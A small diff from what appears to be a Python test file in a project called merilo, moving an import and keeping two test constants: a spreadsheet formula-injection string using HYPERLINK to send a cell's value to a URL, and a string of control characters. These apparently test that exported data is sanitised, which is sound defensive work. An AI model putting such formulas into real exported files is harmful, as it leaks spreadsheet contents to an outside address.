@@ -16,7 +16,7 @@ from merilo.commands.export.run import export_run
 from merilo.data.source import plain
 from merilo.judging.questions import Question
 from merilo.judging.verdicts import Failure, FailureKind
-from merilo.results.sample_table import SampleTable
+from merilo.rendering.frames import SampleTable
 
 HOSTILE = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")'
 CONTROL = "\x01 and \x1b[31m, _x0041_, \ufffe, line\r\nend\ralone"
